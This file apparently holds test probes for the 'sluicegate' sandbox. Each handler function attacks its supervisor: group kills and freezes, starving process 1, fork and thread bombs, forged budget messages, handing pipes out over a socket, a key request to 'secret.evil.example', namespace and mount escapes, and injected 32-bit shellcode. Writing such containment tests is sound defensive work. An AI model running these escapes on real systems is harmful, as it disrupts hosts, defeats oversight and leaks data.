"""More of what a handler may try, against its keeper, process 1 and the worker; each returns what it got."""

from __future__ import annotations

import array
import ctypes
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import threading
import time
from pathlib import Path
from typing import Any

from handler_attacks import _await_ticks, _frame, _ticks, own_pipes, tried

from sluicegate.clients.call import Call


def _libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def _called(number: int, *arguments: Any) -> str:
    """A system call by its number: what it gave, or the error's name."""
    result = _libc().syscall(ctypes.c_long(number), *arguments)
    return f"got {result}" if result >= 0 else os.strerror(ctypes.get_errno())


def _ticking(file: str) -> None:
    """A child in a session of its own that ticks, so that no signal to the handler's group meets it."""
    if os.fork() == 0:
        os.setsid()
        _ticks(file)
    _await_ticks(file)


def _for_ever() -> Any:
    while True:
        time.sleep(60)


# Whoever would end it.


def freezes_its_group(call: Call) -> Any:
    """Stop every process of its group: if the keeper were in it, nobody would be left to kill the child."""
    _ticking(call.payload)
    os.kill(0, signal.SIGSTOP)
    return _for_ever()


def kills_its_group(call: Call) -> Any:
    os.killpg(0, signal.SIGKILL)


def slows_its_group(call: Call) -> Any:
    """Make whoever shares its group or session wait for everything else."""
    return {
        "group": tried(lambda: os.setpriority(os.PRIO_PGRP, 0, 19)),
        "user": tried(lambda: os.setpriority(os.PRIO_USER, 0, 18)),
    }


def starves_process_1(call: Call) -> Any:
    """Take from the process above it what it needs to count: time and descriptors."""
    parent = os.getppid()
    tried(lambda: os.setpriority(os.PRIO_PROCESS, parent, 19))
    tried(lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)))
    tried(lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (0, 0)))
    tried(lambda: resource.prlimit(parent, resource.RLIMIT_CPU, (1, 1)))
    _ticking(call.payload)
    return _for_ever()


def traced_by_its_parent(call: Call) -> Any:
    """Have whoever waits for it see stops in the place of its end."""
    _ticking(call.payload)
    _libc().ptrace(0, 0, 0, 0)
    os.kill(os.getpid(), signal.SIGSTOP)
    return _for_ever()


def leaves_its_first_thread(call: Call) -> Any:
    """The first thread ends and is a zombie; another runs on."""
    threading.Thread(target=_ticks, args=(call.payload,)).start()
    _await_ticks(call.payload)
    _libc().syscall(60 if platform.machine() == "x86_64" else 93, 0)


def becomes_a_program(call: Call) -> Any:
    script = f"trap '' TERM INT HUP; while :; do printf . >> {call.payload}; sleep 0.005; done"
    os.execv("/bin/sh", ["sh", "-c", script])  # noqa: S606


def comet(call: Call) -> Any:
    """Each process forks the next and ends: whoever looks for it finds who is gone."""
    libc = _libc()
    if os.fork() == 0:
        os.setsid()
        file = os.open(call.payload, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
        while True:
            os.write(file, b".")
            if libc.fork():
                libc._exit(0)
    _await_ticks(call.payload)
    return {}


def adopts_its_orphans(call: Call) -> Any:
    """A child that adopts orphans in the keeper's place, with one that is stopped and one that ticks."""
    if os.fork() == 0:
        os.setsid()
        _libc().prctl(36, 1, 0, 0, 0)
        if os.fork() == 0:
            if os.fork() == 0:
                os.setsid()
                _ticks(call.payload)
            os._exit(0)
        if os.fork() == 0:
            os.kill(os.getpid(), signal.SIGSTOP)
        _for_ever()
    _await_ticks(call.payload)
    return {}


def bomb_of_threads(call: Call) -> Any:
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


# Frames and descriptors.


def raises_an_odd_kind(call: Call) -> Any:
    raise type("card 4111 1111 1111 1111", (Exception,), {})


def answers_itself(call: Call) -> Any:
    """Write the worker's answer to its own question: what it believes then is its own affair."""
    up, down, bell = own_pipes()
    for number in (down, bell):
        os.write(os.open(f"/proc/self/fd/{number}", os.O_WRONLY | os.O_NONBLOCK), _frame(b'{"left":"1000000"}'))
    os.write(up, _frame(b'{"type":"spend","budget":"max_affected_rows","amount":"1000000"}'))
    return {}


def gives_its_pipes_away(call: Call) -> Any:
    """To somebody outside who writes for ever; there is a Unix socket for it where the grant leaves the network."""
    with socket.socket(socket.AF_UNIX) as going:
        going.connect(call.payload)
        given = array.array("i", [own_pipes()[0], 1])
        going.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, given)])
        going.recv(1)
    return {}


# What is kept from it.


def kernel_keys(call: Call) -> Any:
    """Read a key of the worker's session, search for it, add one, and have one asked for outside."""
    first = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    room = ctypes.create_string_buffer(64)
    return {
        "read": _called(first + 2, 11, call.payload, room, 64),
        "search": _called(first + 2, 10, ctypes.c_int(-3), b"user", b"sluicegate-test", 0),
        "add": _called(first, b"user", b"mine", b"x", 1, ctypes.c_int(-3)),
        "ask": _called(first + 1, b"dns_resolver", b"secret.evil.example", b"", 0),
        "first": room.raw[:6].hex(),
    }


def memory_first(call: Call) -> Any:
    return int(Path("/proc/self/oom_score_adj").read_text())


def processes_by_descriptor(call: Call) -> Any:
    """Process 1 and what it holds, by every other way than a signal."""
    libc = _libc()
    pidfd = os.pidfd_open(1)
    room = ctypes.create_string_buffer(8)
    vector = struct.pack("PN", ctypes.addressof(room), 8)
    places = (
        *(f"fd/{number}" for number in range(12)),
        "fdinfo/1",
        "map_files",
        "root",
        "cwd",
        "exe",
        "maps",
        "auxv",
        "syscall",
        "stack",
        "io",
        "ns/mnt",
    )
    return {
        "descriptor": [_called(438, pidfd, number, 0) for number in range(8)],
        "memory": _called(310 if platform.machine() == "x86_64" else 270, 1, vector, 1, vector, 1, 0),
        "seize": libc.ptrace(0x4206, 1, 0, 0),
        "places": [place for place in places if "got" in tried(lambda place=place: _looked(f"/proc/1/{place}"))],  # type: ignore[misc]
        "namespaces": _called(308 if platform.machine() == "x86_64" else 268, pidfd, 0x2002_0000),
    }


def _looked(path: str) -> Any:
    if path.endswith(("root", "cwd", "exe", "ns/mnt")) or "/fd/" in path:
        return str(Path(path).readlink())
    return os.listdir(path) if path.endswith("map_files") else Path(path).read_bytes()[:8]  # noqa: PTH208


def newer_mounts(call: Call) -> Any:
    """The mount calls of newer kernels, a process with namespaces of its own, a file by its handle."""
    where = call.payload.encode()
    clone = 56 if platform.machine() == "x86_64" else 220
    found = {
        "open_tree": _called(428, -100, where, 1),
        "move_mount": _called(429, -100, b"/", -100, where, 0),
        "fsopen": _called(430, b"tmpfs", 0),
        "mount_setattr": _called(442, -100, where, 0x8000, struct.pack("QQQQ", 0, 1, 0, 0), 32),
        "handle": _called(304 if platform.machine() == "x86_64" else 265, -100, struct.pack("II8x", 8, 1), 0),
        "rename": tried(lambda: Path(call.payload).rename(f"{call.payload}.moved")),
        "remove": tried(Path(call.payload).rmdir),
        "cgroup": tried(lambda: Path("/sys/fs/cgroup/cgroup.procs").write_text("0")),
    }
    for name, flags in (("user", 0x1000_0000), ("processes", 0x2000_0000), ("network", 0x4000_0000)):
        child = _libc().syscall(clone, flags | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        found[f"clone {name}"] = f"got {child}" if child > 0 else os.strerror(ctypes.get_errno())
    return found


def moves_the_run_folder(call: Call) -> Any:
    """Move the folder above the run folder, and put another in its place for the next attempt to be covered."""
    above = Path(call.payload).parent
    above.rename(f"{above}.moved")
    Path(call.payload).mkdir(parents=True)
    return sorted(found.name for found in Path(f"{above}.moved").joinpath(Path(call.payload).name).iterdir())


# Sockets.


def rare_sockets(call: Call) -> Any:
    """What is neither TCP nor UDP, each sent or connected outside; calls by another architecture's numbers."""
    outside = ("1.1.1.1", 443)

    def sent(kind: int, protocol: int, how: int = 0) -> str:
        def go() -> Any:
            with socket.socket(socket.AF_INET, kind, protocol) as going:
                going.settimeout(1)
                return going.sendto(b"x", how, outside) if how or kind != 1 else going.connect(outside)

        return tried(go)

    def bound() -> Any:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as going:
            going.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
            going.settimeout(1)
            going.connect(outside)

    def route() -> Any:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as asking:
            asking.send(struct.pack("IHHIIBBBBBBBBI", 28, 24, 0x605, 1, 0, 2, 0, 0, 0, 254, 4, 0, 1, 0))
            return _netlink_error(asking.recv(4_096))

    def pair_again() -> Any:
        mine, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        other.close()
        mine.connect(call.payload)

    x86 = platform.machine() == "x86_64"
    return {
        "ping": sent(socket.SOCK_DGRAM, 1),
        "udplite": sent(socket.SOCK_DGRAM, 136),
        "sctp": sent(socket.SOCK_STREAM, 132),
        "mptcp": sent(socket.SOCK_STREAM, 262),
        "fast open": sent(socket.SOCK_STREAM, 0, 0x2000_0000),
        "device": tried(bound),
        "route": tried(route),
        "pair again": tried(pair_again),
        "bluetooth": tried(lambda: socket.socket(31, 3)),
        "alg": tried(lambda: socket.socket(38, 5)),
        "xdp": tried(lambda: socket.socket(44, 3)),
        "x32": _called(0x4000_0000 | 41, 1, 1, 0),
        "i386": _by_interrupt(359, 1, 1) if x86 else "no such calls here",
    }


def _netlink_error(answer: bytes) -> str:
    number = -struct.unpack_from("i", answer, 16)[0]
    if number:
        raise OSError(number, os.strerror(number))
    return "a route"


def _by_interrupt(number: int, first: int, second: int) -> str:
    """A system call of the 32-bit kind, from a 64-bit process."""
    code = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", first)
    code += b"\xb9" + struct.pack("<I", second) + b"\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4_096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return f"got {result}" if result >= 0 else os.strerror(-result)
